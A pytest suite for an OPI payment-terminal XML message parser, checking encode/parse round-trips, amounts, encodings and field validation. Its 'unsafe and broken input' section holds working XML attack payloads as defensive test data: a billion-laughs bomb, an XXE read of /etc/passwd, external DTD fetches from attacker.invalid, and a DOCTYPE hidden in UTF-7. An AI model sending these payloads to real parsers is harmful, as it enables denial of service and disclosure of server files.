import pytest

from terminals.opi import messages as m
from terminals.opi.errors import MalformedMessage, MissingField, ProtocolError, UnsafeXML

from . import samples

POS_DATA = m.PosData("2026-11-25T18:00:00+01:00", "nl", "Available", "Available")
ORIGINAL = m.OriginalTransaction("52000001", "000123", "2026-11-25T18:00:00+01:00", "A1B2C3")

EVERY_MESSAGE = [
    m.CardServiceRequest(
        "CardPreAuthorisation", "1", "POS1", "evpay", "001", POS_DATA, m.Amount(5000, "EUR")
    ),
    m.CardServiceRequest("CardValidation", "2", "POS1", pos_data=POS_DATA),
    m.CardServiceRequest(
        "CardFinancialAdvice",
        "3",
        "POS1",
        "evpay",
        "001",
        POS_DATA,
        m.Amount(1234, "EUR"),
        ORIGINAL,
    ),
    m.CardServiceRequest(
        "PreAuthReversal", "4", "POS1", amount=m.Amount(5000, "EUR"), original_transaction=ORIGINAL
    ),
    m.CardServiceRequest("RepeatLastMessage", "5", "POS1"),
    m.CardServiceRequest("TicketReprint", "6", "POS1"),
    m.CardServiceRequest("CardSwipe", "7", "POS1"),
    m.CardServiceRequest("AbortRequest", "8", "POS1"),
    *[
        m.ServiceRequest(name, str(i), "POS1", "evpay", "001", POS_DATA)
        for i, name in enumerate(
            [
                "GetCardCircuits",
                "Diagnosis",
                "ReconciliationWithClosure",
                "Reconciliation",
                "Login",
                "Logoff",
            ],
            start=10,
        )
    ],
    m.CardServiceResponse(
        "CardPreAuthorisation",
        "1",
        "Success",
        "POS1",
        "001",
        m.TerminalInfo("52000001", "000123"),
        m.Tender(
            m.Amount(5000, "EUR"),
            m.Authorisation("A1", "VISA", "4761******0119", "2026-11-25T18:00:00", "000", "0"),
        ),
        m.CardValue(
            [
                m.Token("CardToken", "99ABCDEF0123456789"),
                m.Token("PAR", "V0010013018209487512345678901"),
            ]
        ),
    ),
    m.CardServiceResponse(
        "CardPreAuthorisation", "1", "Failure", private_data=m.PrivateData("116", "Geweigerd")
    ),
    m.CardServiceResponse(
        "RepeatLastMessage",
        "9",
        "Success",
        "POS1",
        original_header=m.OriginalHeader("3", "CardFinancialAdvice", "POS1", "001", "Success"),
    ),
    m.CardServiceResponse(
        "CardSwipe", "7", "Success", card_value=m.CardValue(card_uid="04A1B2C3D4E5F6")
    ),
    m.ServiceResponse(
        "GetCardCircuits",
        "10",
        "Success",
        "POS1",
        card_circuits=[m.CardCircuit("VISA", "Visa"), m.CardCircuit("JCB")],
    ),
    m.ServiceResponse(
        "Diagnosis", "11", "Success", terminal=m.TerminalInfo("52000001", state="REPRINT_TICKET")
    ),
    m.ServiceResponse(
        "ReconciliationWithClosure",
        "12",
        "Success",
        reconciliation=[
            m.BrandTotal("VISA", m.Amount(3750, "EUR"), 3, "Debit"),
            m.BrandTotal("ECMC", m.Amount(0, "EUR"), 0),
        ],
    ),
    m.ServiceResponse("Reconciliation", "13", "Success", reconciliation=[]),
    m.DeviceRequest(
        "Output",
        "4711",
        "POS1",
        "CCV",
        "001",
        "3",
        "52000001",
        [
            m.Output(
                target,
                [m.TextLine("line one", 1, 1, True), m.TextLine("", 2, 1, False), m.TextLine("x")],
            )
            for target in m.OutDeviceTarget
        ],
    ),
    m.DeviceResponse(
        "Output",
        "4711",
        "Success",
        "POS1",
        "001",
        "3",
        "52000001",
        [m.OutputResult("PrinterReceipt", "Success"), m.OutputResult("DeliveryBox", "Failure")],
    ),
]


@pytest.mark.parametrize("message", EVERY_MESSAGE, ids=lambda msg: f"{msg.root}-{msg.request_type}")
@pytest.mark.parametrize("encoding", ["UTF-8", "ISO-8859-1"])
def test_every_message_survives_encode_then_parse(message, encoding):
    data = m.encode(message, encoding)
    assert data.startswith(f'<?xml version="1.0" encoding="{encoding}"?>'.encode())
    parsed = m.parse(data)
    assert parsed == message
    assert type(parsed) is type(message)
    assert parsed.raw == data.decode("utf-8" if encoding == "UTF-8" else "latin-1")


def test_encoded_messages_use_the_ixretail_default_namespace():
    data = m.encode(EVERY_MESSAGE[0])
    assert b'<CardServiceRequest xmlns="http://www.nrf-arts.org/IXRetail/namespace"' in data


def test_amounts_are_decimal_major_units_on_the_wire_and_minor_units_inside():
    request = m.CardServiceRequest(
        "CardPreAuthorisation", "1", "POS1", amount=m.Amount(1250, "EUR")
    )
    assert b'<TotalAmount Currency="EUR">12.50</TotalAmount>' in m.encode(request)
    request.amount = m.Amount(5, "EUR")
    assert b">0.05<" in m.encode(request)
    request.amount = m.Amount(1250, "JPY")
    assert b">1250<" in m.encode(request)


@pytest.mark.parametrize(
    ("text", "currency", "minor"),
    [
        ("12.50", "EUR", 1250),
        ("12.5", "EUR", 1250),
        ("12", "EUR", 1200),
        (" 0.99 ", "EUR", 99),
        ("12.500", "EUR", 1250),
        ("1.234", "KWD", 1234),
        ("500", "JPY", 500),
    ],
)
def test_parse_amount_reads_major_units(text, currency, minor):
    assert m.parse_amount(text, currency) == minor


@pytest.mark.parametrize("text", ["12,50", "abc", "", "1.005", "1e3", "١٢"])
def test_parse_amount_refuses_what_is_not_an_exact_amount(text):
    with pytest.raises(MalformedMessage):
        m.parse_amount(text, "EUR")


def test_special_characters_survive_in_text_and_attributes():
    request = m.DeviceRequest(
        "Output",
        "1",
        outputs=[m.Output("Printer", [m.TextLine('a<b>&"c"\r\n\ttab  ', 1)])],
        workstation_id='P"1<\n>',
    )
    assert m.parse(m.encode(request)) == request


def test_latin1_encoding_keeps_characters_latin1_cannot_hold():
    response = m.CardServiceResponse(
        "X", "1", "Failure", private_data=m.PrivateData(error_text="€ – é")
    )
    parsed = m.parse(m.encode(response, "ISO-8859-1"))
    assert parsed.private_data.error_text == "€ – é"


def test_encode_refuses_invalid_request_ids_and_unsendable_characters():
    with pytest.raises(ValueError):
        m.encode(m.ServiceRequest("Diagnosis", "1234567890", "POS1"))
    with pytest.raises(ValueError):
        m.encode(m.ServiceRequest("Diagnosis", "12a", "POS1"))
    with pytest.raises(ValueError):
        m.encode(m.ServiceRequest("Diagnosis", "1", "POS\x00"))
    with pytest.raises(ValueError):
        m.encode(m.ServiceRequest("Diagnosis", "1", "POS1"), "UTF-16")


def test_realistic_authorisation_response_is_read_completely():
    response = m.parse(samples.AUTHORISATION_RESPONSE)
    assert isinstance(response, m.CardServiceResponse)
    assert (response.request_type, response.request_id, response.overall_result) == (
        "CardPreAuthorisation",
        "000004711",
        "Success",
    )
    assert response.terminal == m.TerminalInfo("52000001", "000123")
    assert response.amount == m.Amount(5000, "EUR")
    assert response.authorisation == m.Authorisation(
        "A1B2C3", "VISA", "476173******0119", "2026-11-25T18:00:00+01:00", "000", "0"
    )
    assert response.card_token == "99ABCDEF0123456789"
    assert response.par == "V0010013018209487512345678901"
    assert response.raw.startswith('<?xml version="1.0" encoding="UTF-8"?>')


def test_declined_response_in_latin1_keeps_error_details_verbatim():
    response = m.parse(samples.DECLINED_RESPONSE_LATIN1)
    assert response.overall_result == "Failure"
    assert response.authorisation.action_code == "116"
    assert response.authorisation.return_code == "51"
    assert response.private_data == m.PrivateData("116", "Saldo ontoereikend – réessayez")


def test_latin1_bytes_under_a_utf8_declaration_are_read_as_latin1():
    response = m.parse(samples.MISDECLARED_LATIN1)
    assert response.private_data.error_text == "Café fermé"
    assert response.terminal_state == "READY"


def test_prefixed_namespace_brands_response():
    response = m.parse(samples.PREFIXED_BRANDS)
    assert [(c.code, c.display_name) for c in response.card_circuits] == [
        ("VISA", "Visa"),
        ("ECMC", "Mastercard"),
        ("MAES", "Maestro"),
    ]


def test_closing_response_without_namespace_gives_per_brand_totals():
    response = m.parse(samples.CLOSING_RESPONSE)
    assert response.reconciliation == [
        m.BrandTotal("VISA", m.Amount(3750, "EUR"), 3, "Debit"),
        m.BrandTotal("ECMC", m.Amount(99, "EUR"), 1, "Debit"),
    ]


def test_repeat_last_message_response_names_the_repeated_request():
    response = m.parse(samples.REPEAT_LAST_MESSAGE_RESPONSE)
    assert response.request_id == "8"
    assert response.original_header == m.OriginalHeader(
        "7", "CardFinancialAdvice", "POS1", None, "Success"
    )
    assert response.amount == m.Amount(1234, "EUR")


def test_mifare_uid_is_read_from_card_value():
    assert m.parse(samples.MIFARE_RESPONSE).card_uid == "04A1B2C3D4E5F6"


def test_device_request_keeps_outputs_and_lines_in_order():
    request = m.parse(samples.RECEIPT_DEVICE_REQUEST)
    assert isinstance(request, m.DeviceRequest)
    assert (request.sequence_id, request.terminal_id) == ("3", "52000001")
    assert [o.target for o in request.outputs] == ["PrinterReceipt", "CustomerDisplay"]
    assert request.outputs[0].lines == [
        m.TextLine("CARDHOLDER COPY", 1, 1, True),
        m.TextLine("AMOUNT EUR 50.00", 2, 1, None),
        m.TextLine("", 3, 1, False),
    ]
    response = m.device_response_for(request)
    assert response.request_id == "4711"
    assert [(o.target, o.result) for o in response.outputs] == [
        ("PrinterReceipt", "Success"),
        ("CustomerDisplay", "Success"),
    ]


def test_realistic_request_is_read_completely():
    request = m.parse(samples.AUTHORISE_REQUEST)
    assert request == m.CardServiceRequest(
        "CardPreAuthorisation",
        "123456789",
        "POS1",
        "evpay",
        "001",
        m.PosData("2026-11-25T18:00:00+01:00", "nl", "Available", "Available"),
        m.Amount(5000, "EUR"),
    )


# ------------------------------------------------------------------ unsafe and broken input

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<ServiceResponse RequestType="Diagnosis" RequestID="1" OverallResult="&lol9;"/>"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<ServiceResponse RequestType="Diagnosis" RequestID="1" OverallResult="Success">
<PrivateData><ErrorText>&xxe;</ErrorText></PrivateData></ServiceResponse>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE ServiceResponse SYSTEM "http://attacker.invalid/opi.dtd">
<ServiceResponse RequestType="Diagnosis" RequestID="1" OverallResult="Success"/>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.invalid/p.dtd"> %p;]>
<ServiceResponse RequestType="Diagnosis" RequestID="1" OverallResult="Success"/>"""


@pytest.mark.parametrize("document", [BILLION_LAUGHS, XXE, EXTERNAL_DTD, PARAMETER_ENTITY])
def test_dtds_entities_and_external_references_are_refused_unexpanded(document):
    with pytest.raises(UnsafeXML) as info:
        m.parse(document)
    assert "lollol" not in str(info.value)
    assert "root:" not in str(info.value)


@pytest.mark.parametrize(
    "document",
    [
        b"",
        b"not xml",
        b"<ServiceResponse",
        b"<Unknown/>",
        b"<a><b></a>",
        b'<ServiceResponse RequestType="x" RequestID="1" OverallResult="Success"><Terminal></ServiceResponse>',
        b"\xff\xfe\x00",
    ],
)
def test_malformed_documents_raise_malformed_message(document):
    with pytest.raises(MalformedMessage):
        m.parse(document)


@pytest.mark.parametrize(
    ("document", "fields"),
    [
        (b"<CardServiceResponse/>", ["RequestType", "RequestID", "OverallResult"]),
        (b'<CardServiceRequest RequestType="CardValidation" RequestID="1"/>', ["WorkstationID"]),
        (
            b'<ServiceRequest RequestID="1" WorkstationID="P"><POSdata/></ServiceRequest>',
            ["RequestType", "POSdata/POSTimeStamp"],
        ),
        (
            b'<CardServiceRequest RequestType="CardFinancialAdvice" RequestID="1" WorkstationID="P">'
            b'<TotalAmount>1.00</TotalAmount><OriginalTransaction STAN="1"/></CardServiceRequest>',
            ["TotalAmount/Currency", "OriginalTransaction/TerminalID"],
        ),
        (
            b'<CardServiceResponse RequestType="RepeatLastMessage" RequestID="2" OverallResult="Success">'
            b"<OriginalHeader/></CardServiceResponse>",
            ["OriginalHeader/RequestID"],
        ),
        (
            b'<ServiceResponse RequestType="Reconciliation" RequestID="2" OverallResult="Success">'
            b'<Reconciliation><TotalAmount Currency="EUR">1.00</TotalAmount></Reconciliation></ServiceResponse>',
            ["Reconciliation/TotalAmount/CardCircuit", "Reconciliation/TotalAmount/NumberPayments"],
        ),
        (
            b'<DeviceRequest RequestType="Output"><Output/></DeviceRequest>',
            ["RequestID", "Output/OutDeviceTarget"],
        ),
        (b'<DeviceResponse RequestType="Output" RequestID="1"/>', ["OverallResult"]),
    ],
)
def test_missing_mandatory_fields_are_all_named(document, fields):
    with pytest.raises(MissingField) as info:
        m.parse(document)
    assert info.value.fields == fields
    for name in fields:
        assert name in str(info.value)


@pytest.mark.parametrize("request_id", ["1234567890", "12a", "-1", "１２"])
def test_channel0_request_ids_must_be_at_most_nine_ascii_digits(request_id):
    document = f'<ServiceResponse RequestType="Diagnosis" RequestID="{request_id}" OverallResult="Success"/>'
    with pytest.raises(MalformedMessage):
        m.parse(document.encode())


@pytest.mark.parametrize(
    "document",
    [
        b'<DeviceRequest RequestType="Output" RequestID="1"><Output OutDeviceTarget="P"><TextLine Row="x"/></Output></DeviceRequest>',
        b'<DeviceRequest RequestType="Output" RequestID="1"><Output OutDeviceTarget="P"><TextLine Erase="maybe"/></Output></DeviceRequest>',
        b'<ServiceResponse RequestType="R" RequestID="1" OverallResult="Success"><Reconciliation>'
        b'<TotalAmount CardCircuit="V" NumberPayments="many" Currency="EUR">1</TotalAmount></Reconciliation></ServiceResponse>',
        b'<CardServiceResponse RequestType="R" RequestID="1" OverallResult="Success"><Tender>'
        b'<TotalAmount Currency="EUR">ten</TotalAmount></Tender></CardServiceResponse>',
    ],
)
def test_invalid_values_raise_malformed_message(document):
    with pytest.raises(MalformedMessage):
        m.parse(document)


def test_utf16_without_bom_is_refused_as_a_protocol_error():
    with pytest.raises(ProtocolError):
        m.parse('<ServiceResponse RequestID="1"/>'.encode("utf-16-le"))


def test_every_parse_error_is_a_protocol_error():
    for error in (MalformedMessage, MissingField, UnsafeXML):
        assert issubclass(error, ProtocolError)


def test_to_dict_leaves_out_raw():
    data = m.parse(samples.AUTHORISATION_RESPONSE).to_dict()
    assert "raw" not in data
    assert data["tender"]["amount"] == {"minor": 5000, "currency": "EUR"}


def test_doctype_markup_is_refused_even_inside_a_comment():
    document = b'<!-- <!DOCTYPE x> --><ServiceResponse RequestType="a" RequestID="1" OverallResult="Success"/>'
    with pytest.raises(UnsafeXML):
        m.parse(document)


def test_parse_tree_is_namespace_agnostic_and_keeps_attributes():
    root = m.parse_tree(samples.AUTHORISE_REQUEST.decode())
    assert root.tag.endswith("CardServiceRequest")
    assert root.get("RequestID") == "123456789"


def test_namespace_text_inside_a_value_is_left_alone():
    namespace_text = f' xmlns="{m.NAMESPACE}"'
    response = m.ServiceResponse(
        "Diagnosis", "1", "Success", private_data=m.PrivateData(error_text=namespace_text)
    )
    assert m.parse(m.encode(response)).private_data.error_text == namespace_text
    without_root_declaration = (
        f"<ServiceResponse RequestType='Diagnosis' RequestID='1' OverallResult='Success'>"
        f"<PrivateData ErrorCode='{namespace_text}'><ErrorText>{namespace_text}</ErrorText></PrivateData>"
        f"</ServiceResponse>"
    )
    assert m.parse(without_root_declaration.encode()).private_data.error_text == namespace_text


def test_a_dtd_hidden_by_a_utf7_declaration_is_still_refused():
    # "<!DOCTYPE ... <!ENTITY ...>" spelt in UTF-7 shift sequences: invisible to a byte scan.
    body = '+ADwAIQ-DOCTYPE r +AFsAPAAh-ENTITY x +ACI-y+ACIAPgBd-+AD4-<ServiceResponse RequestType="a" RequestID="1" OverallResult="&x;"/>'
    with pytest.raises(UnsafeXML):
        m.parse(('<?xml version="1.0" encoding="UTF-7"?>' + body).encode())


def test_a_wrong_utf16_declaration_on_ascii_bytes_is_tolerated():
    document = b'<?xml version="1.0" encoding="UTF-16"?><ServiceResponse RequestType="a" RequestID="1" OverallResult="Success"/>'
    assert m.parse(document).overall_result == "Success"


# ------------------------------------------------------------------ issue 13: other terminals


def test_alphanumeric_stans_round_trip_in_a_capture_request():
    original = m.OriginalTransaction("52000001", "A1B2C3D4E5F6G7H8I9J0", "2026-11-25T18:00", "X9")
    request = m.CardServiceRequest(
        "CardFinancialAdvice",
        "3",
        "POS1",
        amount=m.Amount(1234, "EUR"),
        original_transaction=original,
    )
    assert b'STAN="A1B2C3D4E5F6G7H8I9J0"' in m.encode(request)
    assert m.parse(m.encode(request)).original_transaction == original


def _authorisation_response(**attributes: str) -> bytes:
    terminal = {"TerminalID": "52000001", "STAN": "000123"}
    authorisation = {"ApprovalCode": "A1", "TimeStamp": "2026-11-25T18:00:00"}
    tokens = {"CardToken": "99ABCDEF0123456789", "PAR": "V001"}
    for name, value in attributes.items():
        group = next(g for g in (terminal, authorisation, tokens) if name in g)
        group[name] = value

    def attrs(values):
        return "".join(f' {k}="{v}"' for k, v in values.items())

    token_xml = "".join(f'<Token Type="{k}">{v}</Token>' for k, v in tokens.items())
    return (
        f'<CardServiceResponse RequestType="CardPreAuthorisation" RequestID="1" '
        f'OverallResult="Success"><Terminal{attrs(terminal)}/><Tender>'
        f"<Authorisation{attrs(authorisation)}/></Tender><CardValue>{token_xml}</CardValue>"
        f"</CardServiceResponse>"
    ).encode()


@pytest.mark.parametrize(
    ("name", "path"),
    [
        ("STAN", "Terminal/STAN"),
        ("TerminalID", "Terminal/TerminalID"),
        ("ApprovalCode", "Tender/Authorisation/ApprovalCode"),
        ("TimeStamp", "Tender/Authorisation/TimeStamp"),
        ("CardToken", "CardValue/Token[CardToken]"),
        ("PAR", "CardValue/Token[PAR]"),
    ],
)
def test_identifiers_are_kept_whole_up_to_the_bound_and_refused_beyond_it(name, path):
    longest = "Z" * m.MAX_IDENTIFIER_LENGTH
    response = m.parse(_authorisation_response(**{name: longest}))
    kept = {
        "STAN": response.terminal.stan,
        "TerminalID": response.terminal.terminal_id,
        "ApprovalCode": response.authorisation.approval_code,
        "TimeStamp": response.authorisation.timestamp,
        "CardToken": response.card_token,
        "PAR": response.par,
    }[name]
    assert kept == longest
    with pytest.raises(MalformedMessage) as info:
        m.parse(_authorisation_response(**{name: longest + "Z"}))
    assert path in str(info.value)
    assert "65 characters" in str(info.value)
    with pytest.raises(MalformedMessage) as info:
        m.parse(_authorisation_response(**{name: "12&#10;34"}))
    assert path in str(info.value)
    assert "control characters" in str(info.value)


def test_card_tokens_lose_only_the_layout_around_them():
    document = _authorisation_response(CardToken="\n      99ABCDEF0123456789\n    ")
    assert m.parse(document).card_token == "99ABCDEF0123456789"


def test_free_text_directly_in_private_data_is_kept_beside_error_code_and_text():
    document = (
        b'<CardServiceResponse RequestType="CardPreAuthorisation" RequestID="1" '
        b'OverallResult="Failure"><PrivateData>  Request type not supported  '
        b"<ErrorCode>12</ErrorCode>\n  (code 12)\n<ErrorText>Niet ondersteund</ErrorText>"
        b"  </PrivateData></CardServiceResponse>"
    )
    private = m.parse(document).private_data
    assert private == m.PrivateData(
        "12", "Niet ondersteund", "Request type not supported (code 12)"
    )


def test_private_data_with_only_free_text_or_only_layout():
    only_text = (
        b'<ServiceResponse RequestType="Diagnosis" RequestID="1" OverallResult="Failure">'
        b"<PrivateData>Unknown RequestType</PrivateData></ServiceResponse>"
    )
    assert m.parse(only_text).private_data == m.PrivateData(text="Unknown RequestType")
    layout = (
        b'<ServiceResponse RequestType="Diagnosis" RequestID="1" OverallResult="Failure">'
        b"<PrivateData>\n  <ErrorCode>1</ErrorCode>\n  </PrivateData></ServiceResponse>"
    )
    assert m.parse(layout).private_data == m.PrivateData(error_code="1")


def test_private_free_text_survives_encode_then_parse():
    response = m.ServiceResponse(
        "Diagnosis", "1", "Failure", private_data=m.PrivateData("1", "x", "free <text> & more")
    )
    assert m.parse(m.encode(response)) == response


def test_no_reconciliation_element_parses_as_none_and_an_empty_one_as_an_empty_list():
    without = (
        b'<ServiceResponse RequestType="Reconciliation" RequestID="1" OverallResult="Success"/>'
    )
    empty = (
        b'<ServiceResponse RequestType="Reconciliation" RequestID="1" OverallResult="Success">'
        b"<Reconciliation/></ServiceResponse>"
    )
    assert m.parse(without).reconciliation is None
    assert m.parse(empty).reconciliation == []


@pytest.mark.parametrize("request_id", ["123-d0", "123.1", "4711"])
def test_device_requests_take_the_terminals_own_request_ids_and_need_no_terminal_id(request_id):
    document = (
        f'<DeviceRequest RequestType="Output" RequestID="{request_id}" WorkstationID="POS1">'
        f'<Output OutDeviceTarget="CashierDisplay"><TextLine>BEDANKT</TextLine></Output>'
        f"</DeviceRequest>"
    ).encode()
    request = m.parse(document)
    assert (request.request_id, request.terminal_id) == (request_id, None)
    response = m.device_response_for(request)
    assert m.parse(m.encode(response)).request_id == request_id


def test_peer_host_is_not_part_of_the_message():
    request = m.parse(samples.RECEIPT_DEVICE_REQUEST)
    assert request.peer_host is None
    request.peer_host = "10.1.2.3"
    assert b"10.1.2.3" not in m.encode(request)
    assert m.parse(m.encode(request)) == request
    assert "peer_host" not in request.to_dict()
